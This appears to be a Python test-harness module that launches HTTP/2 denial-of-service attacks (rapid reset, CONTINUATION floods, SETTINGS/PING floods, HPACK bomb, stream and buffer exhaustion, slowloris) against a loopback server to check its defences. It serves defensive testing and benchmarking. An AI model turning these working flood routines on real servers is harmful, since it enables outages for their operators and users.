"""HTTP/2 attacks on a server at a loopback address, each as a raw client over asyncio streams.

Every attack is bounded in frames and seconds and returns what the server answered: its GOAWAY
code, the RST_STREAM codes it sent, whether it closed the connection. Used by
``tests/unit/h2/test_attacks.py`` (against an in-process server) and
``benchmarks/bench_h2_attacks.py`` (against a server process, with RSS and latency figures).
Loopback only: ``connect`` refuses any other address.
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import ipaddress
import ssl
import struct
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

from hpack import Encoder

from epp.h2 import frames as f

HOLD_PATH = "/test.Echo/Chat"  # a method whose handler suspends on a message starting "wait"
_READ_BYTES = 1 << 16


@dataclass
class Outcome:
    goaway: int | None = None
    resets: collections.Counter[int] = field(default_factory=collections.Counter)
    closed: bool = False  # the server ended the connection (EOF or reset)
    seconds: float = 0.0
    sent_frames: int = 0

    def __str__(self) -> str:
        resets = ", ".join(f"{count}x{code}" for code, count in sorted(self.resets.items())) or "-"
        return f"goaway={self.goaway} resets={resets} closed={self.closed} in {self.seconds:.2f}s"


def request_block(path: str = HOLD_PATH, authority: str = "attack") -> bytes:
    return Encoder().encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )


def grpc_prefix(length: int) -> bytes:
    return struct.pack(">BI", 0, length)


class RawPeer:
    """One raw HTTP/2 client connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.sent = 0

    @classmethod
    async def connect(cls, host: str, port: int, tls: ssl.SSLContext | None = None) -> RawPeer:
        if not ipaddress.ip_address(host).is_loopback:
            raise ValueError(f"attacks go to loopback addresses only, not {host}")
        reader, writer = await asyncio.open_connection(
            host, port, ssl=tls, server_hostname="localhost" if tls else None, limit=1 << 20
        )
        return cls(reader, writer)

    def write(self, *frames: bytes) -> None:
        self.sent += len(frames)
        self.writer.write(b"".join(frames))

    async def drain(self, seconds: float = 5.0) -> bool:
        """Wait for the kernel to take what was written; False when it would not (the server stopped
        reading) or the connection is gone."""
        try:
            async with asyncio.timeout(seconds):
                await self.writer.drain()
        except (TimeoutError, ConnectionError):
            return False
        return True

    def handshake(self, settings: dict[int, int] | None = None) -> None:
        self.write(f.PREFACE + f.settings_frame(settings or {}), f.frame(f.SETTINGS, f.ACK, 0))

    async def outcome(self, seconds: float, started: float) -> Outcome:
        """Read (discarding) until the server closes or ``seconds`` pass; what it said."""
        out = Outcome()
        buf = bytearray()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                while True:
                    try:
                        data = await self.reader.read(_READ_BYTES)
                    except (ConnectionError, ssl.SSLError):
                        data = b""
                    if not data:
                        out.closed = True
                        break
                    buf += data
                    position = 0
                    while len(buf) - position >= f.FRAME_HEADER_BYTES:
                        high, low, kind, _, _ = f.FRAME_HEADER.unpack_from(buf, position)
                        length = (high << 8) | low
                        end = position + f.FRAME_HEADER_BYTES + length
                        if end > len(buf):
                            break
                        payload = bytes(buf[position + f.FRAME_HEADER_BYTES : end])
                        if kind == f.GOAWAY and out.goaway is None:
                            out.goaway = f.U32.unpack_from(payload, 4)[0]
                        elif kind == f.RST_STREAM:
                            out.resets[f.U32.unpack(payload)[0]] += 1
                        position = end
                    del buf[:position]
        out.seconds = time.monotonic() - started
        out.sent_frames = self.sent
        return out

    def close(self) -> None:
        self.writer.transport.abort()


Attack = Callable[[str, int, "ssl.SSLContext | None", float], Awaitable[Outcome]]


async def _run(
    host: str,
    port: int,
    tls: ssl.SSLContext | None,
    seconds: float,
    script: Callable[[RawPeer], Awaitable[None]],
    read_after: bool = False,
) -> Outcome:
    """Connect, run ``script``, and read what the server says: meanwhile (so its GOAWAY is read
    before a reset could discard it), or only afterwards for a client that "never reads"."""
    started = time.monotonic()
    peer = await RawPeer.connect(host, port, tls)
    try:
        reading = None if read_after else asyncio.create_task(peer.outcome(seconds, started))
        try:
            with contextlib.suppress(ConnectionError, ssl.SSLError):
                async with asyncio.timeout(seconds):
                    await script(peer)
        except TimeoutError:
            pass
        if reading is not None:
            return await reading
        return await peer.outcome(max(0.1, seconds - (time.monotonic() - started)), started)
    finally:
        peer.close()


# --- the attacks: (host, port, tls, seconds) -> Outcome ---------------------------------------------
async def rapid_reset(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """CVE-2023-44487: open a stream and reset it at once, 20,000 times."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        block = request_block()
        for batch in range(0, 20_000, 500):
            peer.write(
                *(
                    f.frame(f.HEADERS, f.END_HEADERS, 2 * i + 1, block) + f.rst_stream(2 * i + 1, f.CANCEL)
                    for i in range(batch, batch + 500)
                )
            )
            if not await peer.drain(1.0):
                return

    return await _run(host, port, tls, seconds, script)


async def continuation_flood(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """CVE-2024-27316 class: one header block that never ends, 16 KiB CONTINUATION frames (64 MiB)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        peer.write(f.frame(f.HEADERS, 0, 1, request_block()))
        chunk = f.frame(f.CONTINUATION, 0, 1, b"\x40\x01a\x81" * 4096)  # literals: "a" -> "b"*
        for _ in range(64):
            peer.write(*([chunk] * 64))
            if not await peer.drain(1.0):
                return

    return await _run(host, port, tls, seconds, script)


async def empty_continuation_flood(
    host: str, port: int, tls: ssl.SSLContext | None, seconds: float
) -> Outcome:
    """One header block of 1,000,000 empty CONTINUATION frames (nothing for a byte count to see)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        peer.write(f.frame(f.HEADERS, 0, 1, request_block()))
        empty = f.frame(f.CONTINUATION, 0, 1)
        for _ in range(100):
            peer.write(*([empty] * 10_000))
            if not await peer.drain(1.0):
                return

    return await _run(host, port, tls, seconds, script)


def _flood_without_reading(frame: bytes, count: int) -> Callable[[RawPeer], Awaitable[None]]:
    async def script(peer: RawPeer) -> None:
        peer.handshake()
        for _ in range(count // 10_000):
            peer.write(*([frame] * 10_000))
            if not await peer.drain(1.0):
                return  # the server stopped reading: what it sent is read only afterwards

    return script


async def settings_flood(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """CVE-2019-9515: 200,000 SETTINGS frames from a client that reads nothing meanwhile."""
    frame = f.settings_frame({f.SETTINGS_INITIAL_WINDOW_SIZE: 65_535})
    return await _run(host, port, tls, seconds, _flood_without_reading(frame, 200_000), read_after=True)


async def ping_flood(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """CVE-2019-9512: 200,000 PINGs from a client that reads nothing meanwhile."""
    frame = f.frame(f.PING, 0, 0, b"8 bytes!")
    return await _run(host, port, tls, seconds, _flood_without_reading(frame, 200_000), read_after=True)


async def many_streams(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """20,000 streams opened and left open (each with a message its handler waits on)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        block = request_block()
        message = grpc_prefix(4) + b"wait"
        for batch in range(0, 20_000, 1000):
            peer.write(
                *(
                    f.frame(f.HEADERS, f.END_HEADERS, 2 * i + 1, block)
                    + f.frame(f.DATA, 0, 2 * i + 1, message)
                    for i in range(batch, batch + 1000)
                )
            )
            if not await peer.drain(1.0):
                return

    return await _run(host, port, tls, seconds, script)


async def buffer_pinning(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """100 streams, each with the start of a 4 MiB message it never finishes (as much as the windows
    let through, 1 MiB each), the connection then held open."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        block = request_block()
        chunk = b"p" * 16_384
        for i in range(100):
            sid = 2 * i + 1
            peer.write(
                f.frame(f.HEADERS, f.END_HEADERS, sid, block), f.frame(f.DATA, 0, sid, grpc_prefix(4 << 20))
            )
            peer.write(*[f.frame(f.DATA, 0, sid, chunk)] * 60)  # 0.94 MiB, inside the 1 MiB stream window
            if not await peer.drain(2.0):
                return

    return await _run(host, port, tls, seconds, script)


async def data_past_the_window(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """A stream whose handler is busy gets 2 MiB more than its 1 MiB window (no credit comes back)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        peer.write(
            f.frame(f.HEADERS, f.END_HEADERS, 1, request_block()),
            f.frame(f.DATA, 0, 1, grpc_prefix(4) + b"wait"),
        )
        message = grpc_prefix(16_379) + b"d" * 16_379
        peer.write(*[f.frame(f.DATA, 0, 1, message)] * 192)
        await peer.drain(2.0)

    return await _run(host, port, tls, seconds, script)


async def hpack_bomb(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """A 4 KB header value put in the HPACK table, then referenced 4,000 times (16 MB decoded)."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        value = b"v" * 4000
        insert = b"\x40\x01x" + f.hpack_integer(len(value), 7) + value  # literal, incremental indexing
        block = request_block() + insert + b"\xbe" * 4000  # dynamic entry 62, again and again
        frames = [block[i : i + 16_384] for i in range(0, len(block), 16_384)]
        out = [f.frame(f.HEADERS, f.END_HEADERS if len(frames) == 1 else 0, 1, frames[0])]
        for i, part in enumerate(frames[1:], 1):
            out.append(f.frame(f.CONTINUATION, f.END_HEADERS if i == len(frames) - 1 else 0, 1, part))
        peer.write(*out)
        await peer.drain(2.0)

    return await _run(host, port, tls, seconds, script)


async def malformed_preface(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    async def script(peer: RawPeer) -> None:
        peer.write(b"GET / HTTP/1.1\r\nHost: epp\r\n\r\n")
        await peer.drain(1.0)

    return await _run(host, port, tls, seconds, script)


async def slowloris_header(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """A header block started and never finished, one byte of a CONTINUATION now and then."""

    async def script(peer: RawPeer) -> None:
        peer.handshake()
        block = request_block()
        peer.write(f.frame(f.HEADERS, 0, 1, block[:10]))
        await peer.drain(1.0)

    return await _run(host, port, tls, seconds, script)


async def idle_connection(host: str, port: int, tls: ssl.SSLContext | None, seconds: float) -> Outcome:
    """A connection that sends nothing at all (not even the preface)."""

    async def script(peer: RawPeer) -> None:
        return None

    return await _run(host, port, tls, seconds, script)


ATTACKS: dict[str, Attack] = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "empty-continuation-flood": empty_continuation_flood,
    "settings-flood-no-read": settings_flood,
    "ping-flood-no-read": ping_flood,
    "20k-streams": many_streams,
    "buffer-pinning": buffer_pinning,
    "data-past-the-window": data_past_the_window,
    "hpack-bomb": hpack_bomb,
    "malformed-preface": malformed_preface,
    "slowloris-mid-header": slowloris_header,
    "idle-connection": idle_connection,
}
